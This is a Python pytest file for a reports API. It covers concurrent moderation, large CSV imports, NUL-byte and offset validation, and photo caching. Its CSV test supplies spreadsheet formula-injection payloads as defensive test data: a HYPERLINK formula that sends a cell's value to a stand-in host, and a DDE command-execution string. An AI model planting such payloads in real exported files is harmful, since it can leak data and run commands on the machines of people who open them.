"""Concurrent writes to reports (issue 14 #4, #5) and API edge cases (#7, #8, #11), on SQLite and PostGIS."""

from __future__ import annotations

import base64
import csv
import io
import json
import threading
from http.client import HTTPConnection
from urllib.parse import urlsplit

import pytest
from PIL import Image

from tests.helpers import bearer, feature, live_server


def _post(port: int, path: str, body: dict, token: str) -> int:
    conn = HTTPConnection("127.0.0.1", port, timeout=60)
    headers = {"Content-Type": "application/json", "Authorization": f"Bearer {token}"}
    conn.request("POST", path, body=json.dumps(body), headers=headers)
    resp = conn.getresponse()
    resp.read()
    conn.close()
    return resp.status


def test_publish_and_reject_at_once_exactly_one_wins_30_times(storage_app, make_user):
    from sqlalchemy import select
    from sqlalchemy.orm import Session

    from geoapp.models import Report, Review

    client = storage_app.test_client()
    _, mod_a = make_user(storage_app, "moderator")
    _, mod_b = make_user(storage_app, "moderator")
    ids = []
    for i in range(30):
        f = feature(coords=(106.83 + i * 1e-4, -6.2))
        assert client.post("/api/reports", json=f).status_code == 201
        ids.append(f["properties"]["id"])
    decisions = [
        (mod_a, {"status": "published", "from_status": "pending"}),
        (mod_b, {"status": "rejected", "reason": "duplicate", "from_status": "pending"}),
    ]
    with live_server(storage_app) as base:
        port = urlsplit(base).port
        for rid in ids:
            barrier = threading.Barrier(2)
            answers: dict[str, int] = {}

            def decide(token, body, rid=rid, barrier=barrier, answers=answers):
                barrier.wait()
                answers[body["status"]] = _post(port, f"/api/reports/{rid}/review", body, token)

            threads = [threading.Thread(target=decide, args=d) for d in decisions]
            for t in threads:
                t.start()
            for t in threads:
                t.join()
            assert sorted(answers.values()) == [200, 409], answers
            winner = next(s for s, code in answers.items() if code == 200)
            with Session(storage_app.extensions["geoapp.db"]) as s:
                assert s.get(Report, rid).status == winner
                history = s.scalars(select(Review).where(Review.report_id == rid)).all()
                assert [(h.from_status, h.to_status) for h in history] == [("pending", winner)]


@pytest.mark.slow
def test_submissions_never_fail_while_a_big_import_runs(storage_app, make_user, tmp_path):
    """A 60,000-row import in a thread; 20 submissions meanwhile all succeed; the import shows all at once."""
    _, vol = make_user(storage_app, "volunteer")
    _, mod = make_user(storage_app, "moderator")
    lines = ["lon,lat,category,description"]
    lines += [
        f"{106.8 + (i % 300) * 1e-4:.5f},{-6.2 - (i // 300) * 1e-4:.5f},blocked_drain,row {i}" for i in range(60_000)
    ]
    big = tmp_path / "big.csv"
    big.write_text("\n".join(lines) + "\n")
    result: dict = {}
    statuses: list[int] = []
    with live_server(storage_app) as base:
        port = urlsplit(base).port

        def run_import() -> None:
            import requests

            with open(big, "rb") as fh:
                r = requests.post(
                    f"{base}/api/reports/import", files={"file": ("big.csv", fh)}, headers=bearer(mod), timeout=300
                )
            result["status"], result["body"] = r.status_code, r.json()

        t = threading.Thread(target=run_import)
        t.start()
        while t.is_alive() and len(statuses) < 20:
            statuses.append(_post(port, "/api/reports", feature(description=f"during {len(statuses)}"), vol))
        t.join()
    assert result["status"] == 200, result
    assert result["body"]["accepted"] == 60_000
    assert result["body"]["import"]["status"] == "done"
    assert statuses
    assert set(statuses) == {201}
    listed = json.loads(storage_app.test_client().get("/api/reports", headers=bearer(mod)).data)["features"]
    assert len(listed) == 60_000 + len(statuses)


def test_rows_of_an_unfinished_import_are_hidden_and_a_failed_one_leaves_nothing(storage_app, make_user, monkeypatch):
    from geoapp.reports import store

    client = storage_app.test_client()
    _, mod = make_user(storage_app, "moderator")
    real = store.store_batch
    seen: list[int] = []

    def store_then_look(s, result, **kw):
        real(s, result, **kw)
        seen.append(len(json.loads(storage_app.test_client().get("/api/reports").data)["features"]))
        raise OSError("disk full")  # a failure after the first batch was committed

    monkeypatch.setattr(store, "store_batch", store_then_look)
    text = "lon,lat,category\n106.83,-6.2,blocked_drain\n106.831,-6.2,blocked_drain\n"
    resp = client.post(
        "/api/reports/import",
        data={"file": (io.BytesIO(text.encode()), "a.csv")},
        headers=bearer(mod),
        content_type="multipart/form-data",
    )
    assert resp.status_code == 500
    assert seen == [0]  # committed, but not visible while the import runs
    monkeypatch.setattr(store, "store_batch", real)
    assert json.loads(client.get("/api/reports", headers=bearer(mod)).data)["features"] == []
    again = client.post(
        "/api/reports/import",
        data={"file": (io.BytesIO(text.encode()), "a.csv")},
        headers=bearer(mod),
        content_type="multipart/form-data",
    )
    assert again.json["accepted"] == 2  # the failed import left no keys behind either


@pytest.mark.parametrize(
    ("props", "field"),
    [
        ({"description": "drain\x00full"}, "description"),
        ({"reporter_name": "A\x00"}, "reporter_name"),
        ({"attributes": {"note": "x\x00y"}}, "attributes.note"),
    ],
)
def test_a_nul_byte_in_any_text_field_is_a_400_naming_it(storage_app, props, field):
    client = storage_app.test_client()
    resp = client.post("/api/reports", json=feature(**props))  # anonymous
    assert resp.status_code == 400
    assert resp.json["error"]["message"].startswith(field)
    assert json.loads(client.get("/api/reports", query_string={"status": "published"}).data)["features"] == []


@pytest.mark.parametrize("offset", [str(2**63), str(2**64 + 5), "99999999999999999999999"])
def test_a_huge_offset_is_a_400(storage_app, offset):
    resp = storage_app.test_client().get("/api/reports", query_string={"offset": offset})
    assert resp.status_code == 400
    assert "offset" in resp.json["error"]["message"]


def test_csv_listing_neutralises_spreadsheet_formulas(storage_app, make_user):
    client = storage_app.test_client()
    _, mod = make_user(storage_app, "moderator")
    evil = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3"]
    for text in evil:
        assert client.post("/api/reports", json=feature(description=text), headers=bearer(mod)).status_code == 201
    for headers in ({}, bearer(mod)):
        text = client.get("/api/reports?f=csv", headers=headers).get_data(as_text=True)
        rows = list(csv.DictReader(io.StringIO(text)))
        assert sorted(r["description"] for r in rows) == sorted("'" + t for t in evil)


def test_a_pending_photo_is_private_no_store_and_a_published_one_public(storage_app, make_user):
    client = storage_app.test_client()
    _, mod = make_user(storage_app, "moderator")
    buf = io.BytesIO()
    Image.new("RGB", (20, 20), (200, 10, 10)).save(buf, "JPEG")
    f = feature(photo="data:image/jpeg;base64," + base64.b64encode(buf.getvalue()).decode())
    assert client.post("/api/reports", json=f).status_code == 201
    rid = f["properties"]["id"]
    pending = client.get(f"/api/reports/{rid}/photo", headers=bearer(mod))
    assert pending.status_code == 200
    assert pending.headers["Cache-Control"] == "private, no-store"
    client.post(f"/api/reports/{rid}/review", json={"status": "published"}, headers=bearer(mod))
    assert client.get(f"/api/reports/{rid}/photo").headers["Cache-Control"].startswith("public")
